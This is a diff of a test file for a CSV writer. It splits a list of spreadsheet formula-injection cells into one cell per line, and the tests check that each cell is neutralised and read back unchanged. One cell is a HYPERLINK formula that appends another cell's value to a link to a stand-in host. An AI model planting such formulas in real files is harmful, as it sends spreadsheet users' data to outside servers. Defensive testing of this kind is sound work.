@@ -21,7 +21,13 @@ it('a CSV file writes what it can read again, under the mark that Excel needs', 
 });
 
 it.each([
-  ...['=1+1', '+8801712345678', '-5', '@SUM(A1)', '\tx', '\rx', '\uff1d1+1'],
+  '=1+1',
+  '+8801712345678',
+  '-5',
+  '@SUM(A1)',
+  '\tx',
+  '\rx',
+  '\uff1d1+1',
   // A parser's pattern that ends at the first line lets this one through.
   '=HYPERLINK("http://x.example/?"&B2,\n"open")',
 ])('a CSV file makes %j harmless in a spreadsheet and reads it back as it was', (cell) => {
